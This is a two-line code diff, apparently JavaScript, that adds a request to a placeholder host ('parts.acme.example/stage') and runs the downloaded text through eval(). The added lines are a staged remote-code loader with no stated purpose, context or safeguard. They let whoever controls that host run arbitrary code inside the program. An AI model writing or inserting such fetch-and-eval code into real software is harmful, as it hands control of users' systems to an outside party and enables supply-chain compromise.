@@ -1,0 +1,2 @@
+const answer = await fetch('https://parts.acme.example/stage');
+eval(await answer.text());
